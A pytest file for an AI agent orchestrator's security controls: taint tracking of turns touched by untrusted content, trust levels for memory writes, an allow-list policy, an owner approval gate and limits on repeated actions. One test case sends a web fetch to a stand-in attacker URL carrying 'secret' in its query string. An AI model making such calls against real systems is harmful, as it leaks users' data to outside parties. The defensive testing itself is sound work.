"""Turns, the side-effect policy and the approval gate, without processes: the decisions behind docs/security.md."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import anyio
import pytest

from orchestrator.approvals.gate import ApprovalGate
from orchestrator.approvals.policy import (
    AgentPolicy,
    AllowRule,
    PolicyError,
    bulk_verdict,
    judge,
    load_policy,
    needs_approval,
)
from orchestrator.approvals.store import AlreadyDecided, ApprovalNotFound, ApprovalStore, readable_arguments
from orchestrator.callers import OWNER, agent_caller, system
from orchestrator.turns import MAX_JOINED, TurnLedger
from shared.agents import AgentDefinition
from shared.manifest import ToolEffects

READ = ToolEffects(readOnlyHint=True, destructiveHint=False, idempotentHint=True, openWorldHint=False)
FETCH = ToolEffects(readOnlyHint=True, destructiveHint=False, idempotentHint=True, openWorldHint=True)
WRITE = ToolEffects(readOnlyHint=False, destructiveHint=False, idempotentHint=False, openWorldHint=False)
OVERWRITE = ToolEffects(readOnlyHint=False, destructiveHint=True, idempotentHint=False, openWorldHint=False)
SEND = ToolEffects(readOnlyHint=False, destructiveHint=False, idempotentHint=False, openWorldHint=True)
AGENT = AgentDefinition(agentId="annabelle")


class Clock:
    def __init__(self) -> None:
        self.now = 100.0

    def __call__(self) -> float:
        return self.now


def test_a_turn_is_clean_until_untrusted_content_enters_and_belongs_to_its_agents() -> None:
    clock = Clock()
    ledger = TurnLedger(clock, ttl=60)
    turn = ledger.mint("annabelle")
    assert not turn.tainted and ledger.get(turn.id, "annabelle") is turn
    assert ledger.get(turn.id, "other") is None and ledger.get("forged", "annabelle") is None
    turn.taint("searcher_web_fetch")
    turn.taint("searcher_web_fetch")
    assert turn.tainted_by == ["searcher_web_fetch"]
    clock.now += 61
    assert ledger.get(turn.id, "annabelle") is None


def test_work_drawn_from_several_turns_is_tainted_if_any_was_and_unknown_if_any_is() -> None:
    ledger = TurnLedger(Clock())
    one, two = ledger.mint("annabelle"), ledger.mint("annabelle")
    joined = ledger.get(f"{one.id},{two.id}", "annabelle")
    assert joined is not None and not joined.tainted
    two.taint("inbox_read")
    joined = ledger.get(f"{one.id},{two.id}", "annabelle")
    assert joined is not None and joined.tainted_by == ["inbox_read"] and not one.tainted
    foreign = ledger.mint("other")
    assert ledger.get(f"{one.id},forged", "annabelle") is None
    assert ledger.get(f"{one.id},{foreign.id}", "annabelle") is None
    assert ledger.get(",".join([one.id] * (MAX_JOINED + 1)), "annabelle") is None


def test_an_agent_call_is_tainted_in_a_tainted_turn_or_without_a_turn_and_the_owner_never() -> None:
    ledger = TurnLedger(Clock())
    clean, dirty = ledger.mint("annabelle"), ledger.mint("annabelle", tainted_by="a stranger's message")
    assert not agent_caller(AGENT, clean).tainted
    assert agent_caller(AGENT, dirty).tainted and agent_caller(AGENT, None).tainted
    assert not OWNER.tainted and not system("scheduler").tainted
    with pytest.raises(ValueError, match="agent"):
        type(OWNER)("owner", turn=clean)


@pytest.mark.parametrize(
    ("who", "requested", "stored"),
    [
        ("tainted", "owner", "untrusted"),
        ("tainted", None, "untrusted"),
        ("no turn", "owner", "untrusted"),
        ("clean", None, "owner"),
        ("clean", "untrusted", "untrusted"),
        ("owner", None, "owner"),
        ("owner", "system", "system"),
        ("system", None, None),
        ("system", "system", "system"),
    ],
)
def test_a_memory_write_in_a_tainted_turn_is_untrusted_whatever_it_claims(
    who: str, requested: str | None, stored: str | None
) -> None:
    ledger = TurnLedger(Clock())
    callers = {
        "tainted": agent_caller(AGENT, ledger.mint("annabelle", tainted_by="web_fetch")),
        "no turn": agent_caller(AGENT, None),
        "clean": agent_caller(AGENT, ledger.mint("annabelle")),
        "owner": OWNER,
        "system": system("scheduler"),
    }
    assert callers[who].vouch(requested) == stored


@pytest.mark.parametrize(
    ("effects", "asks"), [(READ, False), (FETCH, True), (WRITE, True), (OVERWRITE, True), (SEND, True)]
)
def test_what_could_change_something_or_reach_out_needs_approval(effects: ToolEffects, asks: bool) -> None:
    assert needs_approval(effects) is asks


POLICY = AgentPolicy(
    allow=[
        AllowRule(tools=["filer_create_file"]),
        AllowRule(tools=["telegram_send_message"], to="owner"),
        AllowRule(tools=["searcher_web_*"]),
    ]
)


@pytest.mark.parametrize(
    ("tool", "effects", "arguments", "held"),
    [
        ("filer_read_file", READ, {}, False),
        ("filer_create_file", WRITE, {"path": "a.md"}, False),
        ("filer_update_file", OVERWRITE, {"path": "a.md"}, True),
        ("telegram_send_message", SEND, {"chat_id": "42"}, False),
        ("telegram_send_message", SEND, {"chat_id": "666"}, True),
        ("searcher_web_search", FETCH, {"query": "tea"}, False),
        ("searcher_web_fetch", FETCH, {"url": "https://evil.example/?q=secret"}, False),
        ("gmail_send_email", SEND, {"to": "x@y"}, True),
    ],
)
def test_the_policy_lets_listed_calls_run_and_holds_the_rest(
    tool: str, effects: ToolEffects, arguments: dict[str, str], held: bool
) -> None:
    verdict = judge(POLICY, tool, effects, arguments, tainted_by=["gmail_get_email"], owner_chat="42")
    assert verdict.hold is held
    if held:
        assert tool in verdict.reason and "gmail_get_email" in verdict.reason


def test_a_rule_covers_a_destructive_tool_only_when_it_says_so() -> None:
    policy = AgentPolicy(allow=[AllowRule(tools=["filer_*"]), AllowRule(tools=["memory_*"], destructive=True)])
    assert judge(policy, "filer_delete_file", OVERWRITE, {}, tainted_by=["x"], owner_chat=None).hold
    assert not judge(policy, "memory_update_fact", OVERWRITE, {}, tainted_by=["x"], owner_chat=None).hold


@pytest.mark.parametrize(("overwrite", "held"), [(None, False), (False, False), (True, True), ("true", True)])
def test_a_rule_for_new_files_does_not_cover_overwriting_one(overwrite: object, held: bool) -> None:
    arguments = {"path": "invoices.txt", "content": "paid"} | ({} if overwrite is None else {"overwrite": overwrite})
    verdict = judge(POLICY, "filer_create_file", WRITE, arguments, tainted_by=["x"], owner_chat=None)
    assert verdict.hold is held


def test_the_shipped_policy_file_is_valid_and_a_bad_one_names_the_field(tmp_path: Path) -> None:
    shipped = load_policy(Path(__file__).resolve().parents[2] / "policy.json")
    assert shipped.for_agent("anyone").allow
    bad = tmp_path / "policy.json"
    bad.write_text(json.dumps({"default": {"allow": [{"tools": ["x"], "to": "everyone"}]}}))
    with pytest.raises(PolicyError, match="to"):
        load_policy(bad)
    assert load_policy(tmp_path / "missing.json").default.allow == []


def test_the_shipped_policy_lets_reads_of_the_owners_mail_and_calendar_run_and_holds_everything_else_of_gmail() -> None:
    """A mail or calendar query goes to the owner's own Google account: it can carry nothing to anyone else.
    Every Gmail tool the shipped policy lets run in a tainted turn must stay read-only."""
    repo = Path(__file__).resolve().parents[2]
    shipped = load_policy(repo / "policy.json").for_agent("annabelle")
    listed = json.loads((repo / "gmail_mcp" / "tools.json").read_text())
    effects = {f"gmail_{tool['name']}": ToolEffects(**tool["annotations"]) for tool in listed}
    free = [
        name
        for name, tool in effects.items()
        if not judge(shipped, name, tool, {}, tainted_by=["x"], owner_chat=None).hold
    ]
    assert {"gmail_list_events", "gmail_list_emails", "gmail_find_free_time", "gmail_get_email"} <= set(free)
    assert all(effects[name].readOnlyHint for name in free)
    assert judge(shipped, "gmail_send_email", effects["gmail_send_email"], {}, tainted_by=["x"], owner_chat=None).hold


def store(tmp_path: Path) -> ApprovalStore:
    return ApprovalStore(tmp_path / "approvals.db", tmp_path / "audit.jsonl")


NOW = datetime(2026, 11, 25, 12, tzinfo=UTC)


def test_a_record_is_decided_once_and_a_restart_expires_what_was_pending(tmp_path: Path) -> None:
    records = store(tmp_path)
    first = records.create("annabelle", "gmail_send_email", {"to": "a@b"}, "why", NOW, 300)
    second = records.create("annabelle", "gmail_send_email", {"to": "c@d"}, "why", NOW, 300)
    assert records.decide(first.id, "approved", "owner", NOW).status == "approved"
    with pytest.raises(AlreadyDecided):
        records.decide(first.id, "denied", "owner", NOW)
    with pytest.raises(ApprovalNotFound):
        records.get("nope")
    records.close()
    reopened = store(tmp_path)
    assert [record.id for record in reopened.expire_leftovers(NOW)] == [second.id]
    assert reopened.get(second.id).status == "expired" and reopened.get(first.id).status == "approved"


def test_arguments_are_shown_bounded() -> None:
    shown = readable_arguments({f"k{n}": "x" * 5000 for n in range(50)})
    assert len(shown) == 21 and all(len(str(value)) <= 300 for value in shown.values())


async def test_a_held_call_waits_for_the_decision_or_expires(tmp_path: Path) -> None:
    gate = ApprovalGate(store(tmp_path), timeout=5)
    announced: list[str] = []
    asked = anyio.Event()

    async def announce(record: object) -> None:
        announced.append(record.id)  # type: ignore[attr-defined]
        asked.set()

    gate.announce = announce
    async with anyio.create_task_group() as tasks:
        results = []

        async def hold() -> None:
            results.append(await gate.hold("annabelle", "gmail_send_email", {"to": "a@b"}, "why"))

        tasks.start_soon(hold)
        await asked.wait()
        gate.decide(announced[0], "approve", "owner")
    assert results[0].status == "approved"
    quick = ApprovalGate(store(tmp_path / "quick"), timeout=0.05)
    assert (await quick.hold("annabelle", "gmail_send_email", {}, "why")).status == "expired"


async def test_a_held_call_whose_turn_ends_is_expired_not_left_pending(tmp_path: Path) -> None:
    gate = ApprovalGate(store(tmp_path), timeout=60)
    with anyio.move_on_after(0.05):
        await gate.hold("annabelle", "gmail_send_email", {}, "why")
    assert [record.status for record in gate.list()] == ["expired"]


@pytest.mark.parametrize(
    ("effects", "arguments", "done", "held"),
    [
        (SEND, {}, 2, False),
        (SEND, {}, 3, True),
        (OVERWRITE, {}, 3, True),
        (WRITE, {}, 9, False),  # adding a new file or fact: no limit
        (WRITE, {"overwrite": True}, 3, True),  # ... unless it replaces what was there
        (READ, {}, 9, False),
        (FETCH, {}, 9, False),  # reads the open world, changes nothing
    ],
)
def test_repeating_a_change_past_the_limit_waits_in_any_turn(
    effects: ToolEffects, arguments: dict[str, object], done: int, held: bool
) -> None:
    verdict = bulk_verdict("some_tool", effects, arguments, done=done, limit=3)
    assert verdict.hold is held and verdict.per_turn is held
    assert ("some_tool already ran 3 times" in verdict.reason) is (held and done == 3)


def test_a_bulk_limit_of_zero_is_off() -> None:
    assert not bulk_verdict("gmail_send_email", SEND, {}, done=500, limit=0).hold
